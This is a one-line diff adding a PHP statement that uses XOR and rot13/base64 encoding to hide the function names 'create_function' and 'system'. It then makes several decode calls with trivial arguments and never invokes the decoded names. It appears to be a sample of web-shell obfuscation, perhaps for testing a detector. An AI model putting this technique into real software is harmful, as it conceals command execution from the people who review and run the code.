@@ -1,0 +1,1 @@
+$f='*UPG!WQ@{DnJL=m'^"\x49\x27\x35\x26\x55\x32\xe\x26\xe\x2a\xd\x3e\x25\x52\x3"; $g = base64_decode(str_rot13('p3ymqTIg')); hex2bin('6869'); urldecode('%41+b'); gzdecode(''); gzuncompress('x');
